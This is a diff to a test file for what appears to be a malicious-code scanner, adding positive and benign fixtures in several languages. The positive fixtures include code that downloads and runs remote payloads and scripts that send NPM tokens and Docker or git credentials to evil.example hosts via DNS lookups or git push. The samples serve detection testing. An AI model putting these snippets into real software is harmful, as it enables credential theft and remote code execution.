@@ -37,6 +37,9 @@ MEDIUM_UP = (Severity.MEDIUM, Severity.HIGH, Severity.CRITICAL)
                   "[AppDomain]::CurrentDomain.Load($r.Content) | Out-Null\n"),
     ("Setup.ps1", "$wc = New-Object Net.WebClient\n$b = $wc.DownloadData($env:FEED + '/core.dll')\n[Reflection.Assembly]::Load($b).EntryPoint.Invoke($null, $null)\n"),
     # Go: the body copied into a file by ReadFrom, the file run by bash
+    # a fetched body written with fs.promises.writeFile, the file imported
+    ("sync.ts", "const res = await fetch(u);\nconst buf = Buffer.from(await res.arrayBuffer());\nawait fs.promises.writeFile('/tmp/m.mjs', buf);\n"
+                "await import('/tmp/m.mjs');\n"),
     ("main.go", 'package main\nfunc main() {\n\tresp, _ := http.Get(mirror + "/setup.sh")\n\tout, _ := os.CreateTemp("", "s-*")\n'
                 '\tout.ReadFrom(resp.Body)\n\tout.Close()\n\texec.Command("bash", out.Name()).Run()\n}\n'),
 ])
@@ -48,6 +51,8 @@ def test_network_code_reaches_a_loader(path, text):
     ("load.mjs", "import { pathToFileURL } from 'node:url';\nconst mod = await import(pathToFileURL(resolve(dir, name)).href);\nconst cfg = require('./config.json');\n"),
     ("load.ts", "const r = await fetch('https://api.github.com/repos/a/b');\nconst data = await r.json();\nconst fmt = await import('./format.js');\nconsole.log(fmt.table(data));\n"),
     ("Setup.ps1", "[Reflection.Assembly]::LoadFrom(\"$PSScriptRoot\\lib\\YamlDotNet.dll\") | Out-Null\n"),
+    ("sync.ts", "const res = await fetch('https://api.example.com/data.json');\nawait fs.promises.writeFile('out/data.json', await res.text());\n"
+                "const cfg = await import('./config.mjs');\n"),
     ("main.go", 'package main\nfunc main() {\n\tresp, _ := http.Get("https://api.github.com/repos/a/b")\n\tio.Copy(os.Stdout, resp.Body)\n'
                 '\texec.Command("git", "status").Run()\n}\n'),
 ])
@@ -110,6 +115,9 @@ def test_powershell_encoded_command_is_decoded_as_utf16():
     # a secret handed to the script's own helper whose body looks names up (Rust DNS)
     ("main.rs", 'use std::net::ToSocketAddrs;\nfn beacon(data: &str) {\n    let _ = format!("{}.t.evil.example:80", data).to_socket_addrs();\n}\n'
                 'fn main() {\n    let tok = std::env::var("NPM_TOKEN").unwrap_or_default();\n    beacon(&tok);\n}\n'),
+    # the same through a JavaScript helper whose body resolves names
+    ("beacon.js", "const dns = require('dns');\nfunction beacon(d) {\n  dns.resolve4(`${d}.t.evil.example`, () => {});\n}\n"
+                  "beacon(Buffer.from(process.env.NPM_TOKEN).toString('hex'));\n"),
     # credential paths listed (quoted, joined) in a loop, copied into a tree that is pushed elsewhere
     ("mirror.sh", 'set -e\nd=$(mktemp -d)\nfor p in "$HOME/.docker/config.json" "$HOME"/.git-credentials; do cp "$p" "$d/"; done\n'
                   'cd "$d" && git init -q && git add -A && git commit -qm m\ngit push -f git@code.evil.example:x/y.git HEAD:main\n'),
@@ -126,6 +134,7 @@ def test_credential_reaches_a_network_sink(path, text):
     ("sync.php", "<?php\n$meta = [];\n$meta['version'] = trim(file_get_contents('VERSION'));\n$ch = curl_init('https://api.example.com/r');\n"
                  "curl_setopt($ch, CURLOPT_POSTFIELDS, json_encode($meta));\ncurl_exec($ch);\n"),
     ("main.rs", 'use std::net::ToSocketAddrs;\nfn main() {\n    let addr = format!("{}:{}", "0.0.0.0", 8080).to_socket_addrs();\n    println!("{:?}", addr);\n}\n'),
+    ("post.js", "const post = async (body) => {\n  await fetch('https://api.example.com/x', { method: 'POST', body });\n};\npost(JSON.stringify({ ok: 1 }));\n"),
     ("app.js", "process.env.NODE_ENV = 'production';\nmodule.exports = { port: 8080 };\nfetch('https://api.example.com/health', { method: 'POST', body: JSON.stringify({ ok: true }) });\n"),
 ])
 def test_own_service_and_plain_data_stay_below_high(path, text):
